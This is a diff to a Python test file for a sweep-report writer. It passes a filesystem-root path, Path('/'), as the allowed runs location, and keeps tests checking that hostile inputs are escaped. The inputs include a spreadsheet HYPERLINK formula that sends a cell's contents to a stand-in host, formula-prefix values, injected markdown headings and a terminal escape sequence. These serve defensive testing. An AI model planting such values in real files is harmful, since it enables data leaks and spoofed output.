@@ -11,6 +11,7 @@ import subprocess
 import sys
 from dataclasses import asdict, replace
 from datetime import datetime, timedelta
+from pathlib import Path
 
 import pandas as pd
 import pytest
@@ -28,6 +29,9 @@ from tests.fake_engine import FakeEngine
 OVERRIDES = {0: ["limit=12", "max_model_len=1024"], 1: ["limit=12", "max_model_len=2048"],
              2: ["limit=12", "max_model_len=100000"], 3: ["limit=12", "max_model_len=1024"],
              4: ["limit=8", "max_model_len=1024"]}
+
+
+ANYWHERE = Path("/")  # runs from two temporary folders: read wherever they lie (report.runs_root)
 
 
 def record(num, status, run_dir=None, error=None, wall=None, started="2026-01-01T10:00:00+00:00"):
@@ -184,7 +188,7 @@ def test_a_point_or_a_reference_without_a_record_is_blank_with_a_note(sweep, tmp
                                                "run it with divergence_top_k=20 to record one"),
                                    (2, [0, 1], f"- points 0, 1: no divergence: run {name} (point 2) recorded no "
                                                "divergence")):
-        write_report(folder, reference=reference)
+        write_report(folder, reference=reference, runs_under=ANYWHERE)
         table = pd.read_csv(folder / "report.csv")
         assert table[table.point.isin(blank)][["mean_kld", "same_top_p"]].isna().all().all()
         md = (folder / "report.md").read_text()
@@ -431,7 +435,7 @@ def test_report_csv_carries_no_spreadsheet_formula_from_a_run(sweep, tmp_path):
     folder = tmp_path / "sweep"
     for num, run_dir in ((0, sweep["runs"][0]), (1, run)):
         write_point(folder / str(num), replace(record(num, "ok", run_dir), overrides=[f"seed={num}"]))
-    write_report(folder, reference=0)
+    write_report(folder, reference=0, runs_under=ANYWHERE)
     with open(folder / "report.csv", newline="") as f:
         cells = [cell for row in csv.reader(f) for cell in row]
     assert "'=HYPERLINK(\"http://x/?\"&A1)" in cells and "'+acc" in cells and "'-none" in cells, cells
@@ -452,7 +456,7 @@ def test_a_name_that_reads_as_mathtext_is_drawn_as_written(sweep, tmp_path):
     folder = tmp_path / "sweep"
     for num, run_dir in ((0, sweep["runs"][0]), (1, run)):
         write_point(folder / str(num), replace(record(num, "ok", run_dir), overrides=[f"seed={num}"]))
-    written = {p.name for p in write_report(folder, reference=0)}
+    written = {p.name for p in write_report(folder, reference=0, runs_under=ANYWHERE)}
     assert {"report.csv", "report.md", "report.html", "scores.png"} <= written
     assert "$x^$ \\frac{" in pd.read_csv(folder / "report.csv").task.tolist()
 
@@ -464,7 +468,7 @@ def test_a_newline_in_a_received_point_record_starts_no_line(sweep, tmp_path):
     write_point(folder / "0", replace(record(0, "ok", sweep["runs"][0]), overrides=["seed=0"]))
     write_point(folder / "1", replace(record(1, "failed", error="boom\n# Injected heading\x1b]0;t\x07"),
                                       overrides=["seed=1\n## Injected override"]))
-    write_report(folder, reference=0)
+    write_report(folder, reference=0, runs_under=ANYWHERE)
     md = (folder / "report.md").read_text()
     assert not [line for line in md.splitlines() if line.startswith(("# Injected", "## Injected"))], md
     assert "boom\\x0a# Injected heading\\x1b]0;t\\x07" in md and "\x1b" not in md
